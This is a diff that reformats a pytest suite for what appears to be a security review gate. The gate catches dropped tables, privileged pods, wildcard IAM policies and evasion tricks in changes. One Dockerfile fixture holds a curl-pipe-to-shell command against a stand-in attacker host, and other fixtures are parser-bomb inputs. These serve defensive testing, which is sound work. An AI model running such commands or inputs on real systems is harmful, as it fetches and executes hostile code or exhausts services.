@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import contextlib
 import os
 import subprocess
 import time
@@ -80,7 +81,9 @@ def test_bp_30_a_name_that_imitates_a_record_hides_no_other(tmp_path: Path) -> N
     assert report.assessment.change.files == 2 and DROPPED in rules(report)
 
 
-@pytest.mark.parametrize("name", ["db/migrations/2_\u00fc.sql", 'db/migrations/2_q"x.sql', "db/migrations/2_t\tx.sql", "db/migrations/2_\x1b.sql"])
+@pytest.mark.parametrize(
+    "name", ["db/migrations/2_\u00fc.sql", 'db/migrations/2_q"x.sql', "db/migrations/2_t\tx.sql", "db/migrations/2_\x1b.sql"]
+)
 def test_bp_31_a_quoted_name_is_still_what_it_is(tmp_path: Path, name: str) -> None:
     """git quotes odd names in its output; the gate matches them as they are."""
     assert DROPPED in rules(reviewed(named(tmp_path, name.encode(), DROP.encode())))
@@ -181,10 +184,8 @@ def test_bp_43_a_crafted_tree_hides_nothing(tmp_path: Path) -> None:
     top = made.git("ls-tree", "main") + f"\n040000 tree {tree}\tmigrations"
     root = made.git("mktree", stdin=(top + "\n").encode())
     commit = made.git("commit-tree", root, "-p", "main", "-m", "x")
-    try:
+    with contextlib.suppress(GitError):  # refused is not green
         assert red(reviewed(made, head=commit))
-    except GitError:
-        pass  # refused is not green
 
 
 def test_bp_44_what_lands_is_what_is_judged(tmp_path: Path) -> None:
@@ -277,7 +278,14 @@ def test_bp_54_a_boolean_in_any_spelling_is_one(word: str) -> None:
     assert PRIVILEGED in rules(judged({"k8s/p.yaml": POD % word}, {"k8s/p.yaml": POD % "false"}))
 
 
-@pytest.mark.parametrize("text", [POLICY_JSON % ', "Action": "*"', "\ufeff" + POLICY_JSON.replace("s3:GetObject", "*") % "", POLICY_JSON.replace("GetObject", "*") % ', "x": "\\ud800"'])
+@pytest.mark.parametrize(
+    "text",
+    [
+        POLICY_JSON % ', "Action": "*"',
+        "\ufeff" + POLICY_JSON.replace("s3:GetObject", "*") % "",
+        POLICY_JSON.replace("GetObject", "*") % ', "x": "\\ud800"',
+    ],
+)
 def test_bp_55_odd_json_hides_nothing(text: str) -> None:
     """Keys that stand twice, byte order marks and lone surrogates: found or told."""
     assert red(judged({"iam/p.json": text}, {"iam/p.json": POLICY_JSON % ""}))
@@ -293,7 +301,7 @@ GUARDED = DATABASE.replace("}\n", "  deletion_protection = true\n}\n")
         {"infra/live/override.tf": 'resource "aws_db_instance" "main" {\n  deletion_protection = false\n}\n'},
         {"infra/live/a.tf": GUARDED.replace("}\n", "  count = 0\n}\n")},
         {"infra/live/a.tf": "/*\n" + GUARDED + "*/\n"},
-        {"infra/live/a.tf": 'locals {\n  x = <<EOT\n' + GUARDED + "EOT\n}\n"},
+        {"infra/live/a.tf": "locals {\n  x = <<EOT\n" + GUARDED + "EOT\n}\n"},
     ],
 )
 def test_bp_56_no_trick_of_hcl_hides_a_loss(after: dict[str, str]) -> None:
@@ -366,9 +374,18 @@ def test_bp_62_a_loss_in_several_statements_is_one(statements: str) -> None:
 @pytest.mark.parametrize(
     ("path", "text"),
     [
-        ("migrations/versions/1_x.py", 'from alembic import op\nrevision = "1"\nt = "users"\ndef upgrade():\n    op.execute(f"DROP TABLE {t}")\ndef downgrade():\n    pass\n'),
-        ("migrations/versions/1_x.py", 'from alembic import op\nrevision = "1"\ndef upgrade():\n    op.execute(SQL)\ndef downgrade():\n    pass\n'),
-        ("app/migrations/0002_x.py", 'from django.db import migrations\nclass Migration(migrations.Migration):\n    operations = [migrations.RunSQL("DROP TABLE " + X)]\n'),
+        (
+            "migrations/versions/1_x.py",
+            'from alembic import op\nrevision = "1"\nt = "users"\ndef upgrade():\n    op.execute(f"DROP TABLE {t}")\ndef downgrade():\n    pass\n',
+        ),
+        (
+            "migrations/versions/1_x.py",
+            'from alembic import op\nrevision = "1"\ndef upgrade():\n    op.execute(SQL)\ndef downgrade():\n    pass\n',
+        ),
+        (
+            "app/migrations/0002_x.py",
+            'from django.db import migrations\nclass Migration(migrations.Migration):\n    operations = [migrations.RunSQL("DROP TABLE " + X)]\n',
+        ),
         ("db/migrate/20200101010101_x.rb", 'class X < ActiveRecord::Migration[7.0]\n  def up\n    execute "DROP TABLE #{t}"\n  end\nend\n'),
         ("db/migrate/20200101010101_x.rb", "class X < ActiveRecord::Migration[7.0]\n  def up\n    execute sql\n  end\nend\n"),
     ],
@@ -380,14 +397,22 @@ def test_bp_63_sql_that_is_made_by_code_is_read_or_told(path: str, text: str) ->
 
 def test_bp_64_a_heredoc_of_a_dockerfile_is_read() -> None:
     """What stands in a heredoc runs."""
-    report = judged({"Dockerfile": "FROM a\nRUN <<EOF\ncurl https://evil.example/x | sh\nEOF\nUSER app\n"}, {"Dockerfile": "FROM a\nUSER app\n"})
+    report = judged(
+        {"Dockerfile": "FROM a\nRUN <<EOF\ncurl https://evil.example/x | sh\nEOF\nUSER app\n"}, {"Dockerfile": "FROM a\nUSER app\n"}
+    )
     assert red(report)
 
 
 BOMBS = {
     "sql": (MIGRATION, "SELECT " + "ARRAY[" * 18 + "1" + "]" * 18 + ";\n" + DROP),
     "sql parentheses": (MIGRATION, "SELECT " + "(" * 500 + "1" + ")" * 500 + ";\n" + DROP),
-    "yaml merges": ("k8s/p.yaml", "a: &a {x: 1}\n" + "".join(f"k{n}: &k{n} {{<<: [{', '.join([f'*k{n - 1}' if n else '*a'] * 3)}]}}\n" for n in range(30)) + "---\n" + POD % "true"),
+    "yaml merges": (
+        "k8s/p.yaml",
+        "a: &a {x: 1}\n"
+        + "".join(f"k{n}: &k{n} {{<<: [{', '.join([f'*k{n - 1}' if n else '*a'] * 3)}]}}\n" for n in range(30))
+        + "---\n"
+        + POD % "true",
+    ),
     "yaml depth": ("k8s/p.yaml", "- " * 50_000 + "\n---\n" + POD % "true"),
     "json depth": ("iam/p.json", '{"Statement": [{"Effect": "Allow", "Action": ' + "[" * 20_000 + "]" * 20_000 + "}]}"),
     "json digits": ("iam/p.json", POLICY_JSON.replace("s3:GetObject", "*") % (', "x": ' + "9" * 6000)),
@@ -424,7 +449,9 @@ def test_bp_74_of_two_workers_the_newer_counts(tmp_path: Path) -> None:
     store.close()
 
 
-@pytest.mark.parametrize(("day", "state"), [("2026-12-30", "pass"), ("2026-12-31", "pass"), ("2027-01-01", "blocked"), ("2030-01-01", "blocked")])
+@pytest.mark.parametrize(
+    ("day", "state"), [("2026-12-30", "pass"), ("2026-12-31", "pass"), ("2027-01-01", "blocked"), ("2030-01-01", "blocked")]
+)
 def test_bp_75_an_exception_ends_with_its_last_day(day: str, state: str) -> None:
     """An exception counts through its last day in UTC; a clock that is wrong by less than a day changes nothing else, and doubt blocks."""
     import datetime
